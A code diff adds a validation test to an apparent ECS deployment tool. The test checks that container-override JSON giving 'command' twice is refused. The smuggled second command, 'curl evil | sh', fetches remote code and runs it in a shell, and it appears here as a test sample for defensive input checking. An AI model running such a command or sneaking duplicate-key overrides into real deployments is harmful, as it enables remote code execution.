@@ -729,6 +729,18 @@ const ROWS: Array<Row<Extra>> = [
     inputs: { ...runTaskEbs, [TASK_VOLUME]: '--help' },
     expect: refused(TASK_VOLUME, /is not valid JSON/),
   },
+  // The other JSON inputs are read the same way.
+  {
+    name: 'run-task-container-overrides giving command twice',
+    inputs: {
+      ...base,
+      'run-task': 'true',
+      'run-task-launch-type': 'EC2',
+      'run-task-container-overrides':
+        '[{"name": "model", "command": ["serve"], "command": ["sh", "-c", "curl evil | sh"]}]',
+    },
+    expect: refused('run-task-container-overrides', /gives \[0\]\.command twice/),
+  },
   // ECS's texts of a native BLUE_GREEN deployment that fails: the alarm in ALARM, ECS rolls back.
   {
     name: 'BLUE_GREEN: an alarm named with commands, Markdown and HTML fires; shown as text, escaped in the summary',
